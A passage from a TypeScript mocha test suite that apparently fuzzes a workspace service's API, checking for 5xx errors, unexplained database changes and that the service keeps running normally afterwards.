    // Visible in the mocha output: how much was sent and what came back.
    console.log(
      `      ${cases.length} requests (${asPlain} as the non-admin) over ${ops.length - unfuzzed.length} of ${ops.length} operations in ${ms} ms: ${summary}; ${exact} with the status they must get, ${named} with the field a 400 must name; ` +
        `${okMutations} allowed 2xx mutations on fuzz-owned ids; ${held} schema-valid or protected cases withheld ` +
        `(${[...withheld.entries()].map(([why, n]) => `${why}: ${n}`).join('; ')})`,
    );
    // Grouped by rule and operation, with a few examples of each, so one defect reads as one.
    const groups = new Map<string, Failure[]>();
    for (const f of failures) {
      const key = `${f.why} — ${f.c.opId ?? `${f.c.method} ${f.c.target.split('?')[0]}`}${f.c.who === 'plain' ? ' (as the non-admin)' : ''}`;
      groups.set(key, [...(groups.get(key) ?? []), f]);
    }
    const shown = [...groups.entries()].map(
      ([key, fs]) => `* ${key}: ${fs.length} requests, e.g.\n${fs.slice(0, 3).map((f) => `    ${describeCase(f.c)}\n      → ${f.status ?? ''} ${f.error ?? f.body ?? ''}`).join('\n')}`,
    );
    expect(failures.length, `${failures.length} of ${cases.length} requests broke a rule:\n${shown.join('\n')}\n`).to.equal(0);
  });

  it('stores unusual reject reasons as given, or refuses them, never a 5xx', async () => {
    const failures: string[] = [];
    for (const p of rejectProbes) {
      const raw = Buffer.isBuffer(p.reason) ? p.reason : Buffer.from(JSON.stringify({ reason: p.reason }));
      const res = await rawRequest(port, 'POST', `/v1/workspaces/${p.ws}/reject`, [['Authorization', `Bearer ${fx.token}`], ['Content-Type', 'application/json']], raw);
      const body = res.json as { error?: string; status?: string; message?: string } | undefined;
      const what = `POST /v1/workspaces/${p.ws}/reject body=${JSON.stringify(raw.toString('latin1'))}`;
      if (res.status >= 500) failures.push(`${what} → ${res.status} ${res.text}`);
      else if (res.status === 200) {
        touched.workspaces.add(p.ws);
        okMutations++;
        if (body?.status !== 'REJECTED') failures.push(`${what} → 200 but status ${body?.status}`);
        if (typeof p.reason === 'string' && isWellFormed(p.reason) && body?.error !== `rejected by an admin: ${p.reason}`) {
          failures.push(`${what} → stored ${JSON.stringify(body?.error)}`);
        }
      } else if (res.status !== 400 || typeof body?.message !== 'string') failures.push(`${what} → ${res.status} ${res.text}`);
    }
    expect(failures.length, `${failures.join('\n')}\n`).to.equal(0);
  });

  it('changed no row that a successful request does not explain (workspaces, hosts, users, tokens, join tokens, builds, quotas, certificates, events)', async () => {
    const after = await snapshot(t.databaseUrl);
    const unexplained: string[] = [];
    for (const key of new Set([...baseline.keys(), ...after.keys()])) {
      const a = baseline.get(key);
      const b = after.get(key);
      if (a === b) continue;
      const [table, ...rest] = key.split(':');
      const id = rest.join(':');
      const row = JSON.parse((b ?? a) as string) as { workspace_id?: string; user_id?: string; data?: { userId?: string; teamId?: string } };
      const explained =
        (table === 'workspaces' && touched.workspaces.has(id)) ||
        ((table === 'users' || table === 'user_quotas') && touched.users.has(id)) ||
        (table === 'team_quotas' && touched.teams.has(id)) ||
        // Tokens issued to sacrificial users (allowed, see allowValid); never a change to an existing token.
        (table === 'api_tokens' && a === undefined && row.user_id !== undefined && touched.users.has(row.user_id)) ||
        (table === 'events' &&
          a === undefined &&
          ((row.workspace_id && touched.workspaces.has(row.workspace_id)) ||
            (row.data?.userId && touched.users.has(row.data.userId)) ||
            (row.data?.teamId && touched.teams.has(row.data.teamId))));
      if (!explained) unexplained.push(`${key}\n    before: ${a ?? '(none)'}\n    after:  ${b ?? '(none)'}`);
    }
    expect(unexplained.length, `${unexplained.slice(0, 20).join('\n')}\n`).to.equal(0);
    // The fixtures in particular: byte for byte.
    const tokenKeys = [...baseline.keys()].filter((k) => k.startsWith('api_tokens:'));
    for (const key of [`workspaces:${fx.running}`, `workspaces:${fx.pending}`, `hosts:${hostId}`, ...fx.protectedUsers.map((u) => `users:${u}`), `user_quotas:${zeroUser}`, `image_builds:${fx.build}`, ...tokenKeys]) {
      expect(after.get(key), key).to.equal(baseline.get(key));
    }
    expect(after.has(`user_quotas:${user}`)).to.equal(false);
  });

  it('still serves normally afterwards: the host is connected, the running workspace runs, both user tokens work, and a valid create becomes RUNNING', async () => {
    const h = await t.api.waitHostConnected(hostId, 10_000);
    expect(h.status).to.equal('healthy');
    const w = await t.api.workspace(fx.running);
    expect(w.status).to.equal('RUNNING');
    expect((await docker().getContainer(w.containerId as string).inspect()).State.Running).to.equal(true);
    for (const [u, token] of [[plainUser, fx.plain.token], [victimUser, victimToken]] as const) {
      const me = await t.api.call<{ id: string; role: string }>('GET', `/v1/users/${u}`, undefined, { token });
      expect(me.status, `${u}'s token`).to.equal(200);
      expect(me.body.role).to.equal('user');
    }
    const fresh: Workspace = await t.api.createWorkspace(uniqueId('fzok'), { projectName: 'fz', arch: 'linux-x64', tier: 'tiny' });
    expect(fresh.status, JSON.stringify(fresh)).to.equal('RUNNING');
    const ready = await t.api.call('GET', '/readyz', undefined, { token: null });
    expect(ready.status).to.equal(200);
  });
});
